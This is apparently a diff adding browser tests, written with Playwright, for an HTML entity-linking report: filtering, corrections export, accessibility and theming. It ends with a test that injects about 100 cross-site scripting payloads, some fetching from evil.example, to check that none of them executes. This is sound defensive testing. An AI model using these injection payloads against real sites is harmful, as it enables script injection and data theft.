@@ -1,0 +1,269 @@
+"""The report in a real browser: found, filtered, corrected, exported; readable for all; and nothing in it runs."""
+
+import json
+import re
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from made_up_results import make_candidate, make_mention, make_result
+
+from kgmner import report_html
+from linker import GoldAnswers, Result
+
+pytest.importorskip("playwright.sync_api", reason="needs playwright (pip install playwright)")
+CHROMIUM = shutil.which("chromium")
+pytestmark = [
+    pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium (apt-get install chromium)"),
+    pytest.mark.filterwarnings("ignore:unclosed:ResourceWarning"),
+]
+CHAD = make_candidate(clues={"exact": 2.0, "likeness": -1.0, "is_pictured": 3.0}, score=0.7)
+SMITH = make_candidate(iri="http://g/Chad_Smith", label="Chad Smith", type="PER", score=0.2, clues={"part": 1.0})
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as started:
+        browser = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+class Opened:
+    """A page in a tab of its own, and what went wrong in it."""
+
+    def __init__(self, browser: Any, file: Path, **options: Any) -> None:
+        self.tab = browser.new_page(**options)
+        self.errors: list[str] = []
+        self.requests: list[str] = []
+        self.tab.on("console", lambda message: self.errors.append(message.text) if message.type != "info" else None)
+        self.tab.on("pageerror", lambda error: self.errors.append(str(error)))
+        self.tab.on("dialog", lambda dialog: (self.errors.append(dialog.message), dialog.dismiss()))
+        self.tab.on("request", lambda request: self.requests.append(request.url))
+        self.tab.goto(file.as_uri())
+
+    def shows(self, ids: list[str]) -> None:
+        """Wait until just these posts are shown, in this order."""
+        from playwright.sync_api import expect
+
+        expect(self.tab.locator("article h3 a")).to_have_text(ids)
+
+    def choose(self, **values: str) -> None:
+        """Fill in the filters anew."""
+        self.tab.evaluate("document.getElementById('filters').reset()")
+        for name, value in values.items():
+            field = self.tab.locator(f"#filters [name={name}]")
+            (field.fill if name in ("search", "entity") else field.select_option)(value)
+
+    def close(self) -> None:
+        self.tab.close()
+        assert self.errors == []
+        assert {address.partition(":")[0] for address in self.requests} <= {"file", "data", "blob"}
+
+
+def posts() -> list[Result]:
+    chad = make_mention(0, 1, entity=CHAD, candidates=[CHAD, SMITH], nil_score=0.1, why=[])
+    amman = make_mention(2, 3, text="Amman", start_char=14, end_char=19, nil_score=0.9)
+    smith = make_mention(0, 1, type="PER", entity=SMITH, candidates=[SMITH, CHAD], ambiguous=True)
+    path = [["http://g/Chad", "http://g/capitalOf", "http://g/X"], ["http://g/Y", "http://g/p", "http://g/X"]]
+    pictured = {"iri": "http://g/Y", "label": "Y", "hop": 2, "cosine": 0.95, "image": "y.jpg", "path": path}
+    return [
+        make_result(id="a b", mentions=[chad], pictured=pictured, attributes=[["flagpole", 0.4]]),
+        make_result(
+            id=2, tokens=["🎉🎉", "Hi!!!!!!!!", "Amman"], mentions=[amman], image="x.jpg", image_error="it is broken"
+        ),
+        make_result(id="third", mentions=[smith], gold=[{"start_char": 0, "end_char": 4, "iri": "http://g/Chad"}]),
+        make_result(id="third", tokens=["nothing", "here"]),
+    ]
+
+
+@pytest.fixture
+def file(tmp_path: Path, images: Path) -> Path:
+    path = tmp_path / "report.html"
+    pictures = [images / "chad-flag.jpg", None, None, None]
+    path.write_text("".join(report_html(posts(), pictures)), "utf-8")
+    return path
+
+
+@pytest.fixture
+def images(posts: Path) -> Path:
+    return posts.parent / "images"
+
+
+def test_posts_are_found(browser: Any, file: Path) -> None:
+    page = Opened(browser, file)
+    page.shows(["a b", "2", "third", "third"])
+    for filters, expected in (
+        ({"search": "amman"}, ["2"]),
+        ({"search": "Chad GREAT third"}, ["third"]),
+        ({"type": "PER"}, ["third"]),
+        ({"entity": "smith"}, ["third"]),
+        ({"entity": "http://g/Chad"}, ["a b"]),
+        ({"link": "nil"}, ["2"]),
+        ({"link": "ambiguous"}, ["third"]),
+        ({"link": "none"}, ["third"]),
+        ({"link": "linked", "type": "LOC"}, ["a b"]),
+        ({"picture": "recognised"}, ["a b"]),
+        ({"picture": "error"}, ["2"]),
+        ({"gold": "wrong"}, ["third"]),
+        ({"order": "unsure"}, ["third", "a b", "2", "third"]),
+    ):
+        page.choose(**filters)
+        page.shows(expected)
+        assert page.tab.inner_text("#count").startswith(f"{len(expected)} of 4")
+    page.choose(search="not there")
+    page.tab.click("#clear")
+    page.shows(["a b", "2", "third", "third"])
+    assert page.tab.locator("svg.path rect").count() == 3
+    assert page.tab.locator("svg.path").get_attribute("aria-label") == "Chad – capital of → X; Y – p → X"
+    page.tab.click("article >> nth=0 >> summary")
+    assert page.tab.locator("tr.chosen td").all_inner_texts()[1:7] == ["Chad", "LOC", "70 %", "+2.00", "−1.00", "0"]
+    page.tab.goto(file.as_uri() + "#post-third~2")
+    assert page.tab.evaluate("document.activeElement.id") == "post-third~2"
+    page.close()
+
+
+def test_a_word_tells_where_it_looks(browser: Any, tmp_path: Path, images: Path) -> None:
+    attention = [[0.02] * 49, [0.02] * 48 + [0.04], [0.03] + [0.02] * 48]
+    result = make_result(mentions=[make_mention(0, 1)], attention=attention, gates=[0.25, 0.5, 0.1])
+    file = tmp_path / "report.html"
+    file.write_text("".join(report_html([result], [images / "chad-flag.jpg"])), "utf-8")
+    page = Opened(browser, file)
+    words = page.tab.locator(".text .word")
+    assert words.all_inner_texts() == ["Chad", "looks", "great"]
+    words.nth(1).click()
+    said = "“looks” takes 50 % from the picture and 50 % from the text; looks most at row 7, column 7 of 7 (4.0 %"
+    assert page.tab.inner_text(".looked").startswith(said)
+    dark = page.tab.evaluate("[...document.querySelectorAll('.regions span')].map(one => one.style.cssText)")
+    assert (len(dark), dark[48]) == (49, "--dark: 0;")
+    words.nth(1).click()
+    assert page.tab.locator(".regions span").count() == 0
+    page.close()
+
+
+def test_decisions_by_key_are_kept_and_read_by_the_commands(browser: Any, file: Path, tmp_path: Path, run) -> None:
+    page = Opened(browser, file)
+    press = page.tab.keyboard.press
+    for key in ("j", "2", "j", "a", "j", "c"):  # the second candidate; as it is; a correction
+        press(key)
+    page.tab.fill("#correct [name=iri]", "http://g/Drummer")
+    page.tab.select_option("#correct [name=end]", "1")
+    page.tab.click("#correct [value=save]")
+    press("k")
+    press("m")  # a name that was missed
+    page.tab.select_option("#correct [name=start]", "0")
+    page.tab.select_option("#correct [name=type]", "ORG")
+    page.tab.click("#correct [value=save]")
+    for key in ("j", "j", "Shift+A"):
+        press(key)
+    page.tab.reload()  # what was decided is still there
+    page.choose(review="changed")
+    page.shows(["a b", "2", "third"])
+    with page.tab.expect_download() as started:
+        page.tab.click("#export")
+    lines = tmp_path / "corrections.jsonl"
+    started.value.save_as(lines)
+    page.close()
+    rows = [json.loads(line) for line in lines.read_text("utf-8").splitlines()]
+    assert [row["tags"] for row in rows] == [
+        ["B-PER", "O", "O"],
+        ["B-ORG", "O", "B-LOC"],
+        ["B-PER", "I-PER", "O"],
+        ["O", "O"],
+    ]
+    answers = [(a["text"], a["iri"], a["start_char"], a["end_char"]) for row in rows for a in row["gold"]]
+    assert answers == [
+        ("Chad", "http://g/Chad_Smith", 0, 4),
+        ("🎉🎉", None, 0, 2),
+        ("Amman", None, 14, 19),
+        ("Chad looks", "http://g/Drummer", 0, 10),
+    ]
+    vectors = tmp_path / "vectors.txt"
+    vectors.write_text("chad 1 2\namman 3 4\nlooks 5 6\n")
+    recipe = tmp_path / "small.toml"
+    recipe.write_text('tagger = "bilstm-crf"\n[network]\nlstm_width = 4\n')
+    trained = run(
+        *("train-tagger", recipe, "--train", lines, "--valid", lines, "-o", tmp_path / "run"),
+        *("--vectors", vectors, "--epochs", 1),
+    )
+    assert "trained on 4 posts" in trained.stdout, trained.output
+    results = tmp_path / "results.jsonl"
+    results.write_bytes(lines.read_bytes().replace(b'"gold":', b'"mentions":'))
+    scored = run("evaluate-links", results, lines)
+    assert "3 posts, 4 gold mentions; the results have a mention in the places of 4 of them" in scored.stdout
+    assert GoldAnswers.read(lines).compare(posts()[1])
+
+
+@pytest.mark.parametrize(("scheme", "width"), [("light", 1200), ("dark", 1200), ("light", 400)])
+def test_the_page_is_for_all(browser: Any, file: Path, scheme: str, width: int) -> None:
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
+    page = Opened(browser, file, color_scheme=scheme, viewport={"width": width, "height": 800})
+    page.tab.click("article >> nth=0 >> summary")
+    page.tab.evaluate("document.getElementById('summary-box').open = true")
+    for opened in (None, "?", "c"):
+        if opened:
+            page.tab.focus("article >> nth=0")
+            page.tab.keyboard.press(opened)
+        found = axe.run(page.tab).response["violations"]
+        grave = [
+            (one["id"], [node["html"][:200] for node in one["nodes"]])
+            for one in found
+            if one["impact"] in ("serious", "critical")
+        ]
+        assert grave == []
+        page.tab.keyboard.press("Escape")
+    assert page.tab.evaluate("document.documentElement.scrollWidth") <= width
+    colours = []
+    for _ in range(3):
+        colours.append(page.tab.evaluate("getComputedStyle(document.body).backgroundColor"))
+        page.tab.click("#theme")
+    assert colours[0] == colours[2] != colours[1]
+    page.close()
+
+
+EVIL = [
+    form.format(run)
+    for run in ("alert(1)", "window.ran=1", "import('https://evil.example/x.js')", "fetch('https://evil.example')")
+    for form in (
+        "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
+        "<svg><script>{}</script></svg>", "'\"><script>{}</script>", "javascript:{}", "JaVaScRiPt:{}",
+        " javascript:{}", "java\tscript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
+        "<iframe src=javascript:{}>", "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
+        "<a href=javascript:{}>x</a>", "<math><a xlink:href=javascript:{}>x", "\\u003cscript>{}</script>",
+        "<!--<script>{}</script>-->", "]]><script>{}</script>", "${{{}}}", "{{{{{}}}}}",
+        "<style>*{{x:expression({})}}</style>",
+        "<base href=javascript:{}//>", "<object data=javascript:{}>",
+        "<meta http-equiv=refresh content=0;url=javascript:{}>",
+    )
+]  # fmt: skip
+
+
+def test_nothing_that_users_wrote_runs(browser: Any, tmp_path: Path) -> None:
+    results = []
+    for text in EVIL:
+        candidate = make_candidate(iri=text, label=text, type="PER", score=0.4)
+        chosen = make_mention(0, 1, type=text, entity=candidate, candidates=[candidate], text=text, end_char=len(text))
+        pictured = {"iri": text, "label": text, "hop": 1, "cosine": 0.9, "image": text, "path": [[text, text, text]]}
+        told = {"knowledge": [[text, text, text]], "attributes": [[text, 0.5]], "image_error": text, "image": text}
+        results.append(make_result(id=text, tokens=[text, "!"], mentions=[chosen], pictured=pictured, **told))
+    file = tmp_path / "evil.html"
+    file.write_text("".join(report_html(results, title=EVIL[1])), "utf-8")
+    page = Opened(browser, file)
+    assert len(EVIL) >= 100
+    page.tab.evaluate("dispatchEvent(new Event('beforeprint'))")  # all of them are drawn
+    page.shows([re.sub(r"\s+", " ", text).strip() for text in EVIL])
+    page.tab.evaluate("document.querySelectorAll('article details').forEach(box => { box.open = true })")
+    page.tab.wait_for_timeout(300)  # whatever could run has time to
+    assert page.tab.locator("article tbody tr button").count() == len(EVIL)
+    shown = page.tab.evaluate("[...document.querySelectorAll('.text')].map(line => line.textContent)")
+    assert all(line.startswith(text) for line, text in zip(shown, EVIL, strict=True))
+    assert page.tab.evaluate("[...document.links].every(link => link.protocol === 'file:')")
+    assert (
+        page.tab.evaluate("document.querySelectorAll('iframe, object, base, math, style:not(head style)').length") == 0
+    )
+    assert page.tab.evaluate("window.ran") is None
+    page.close()
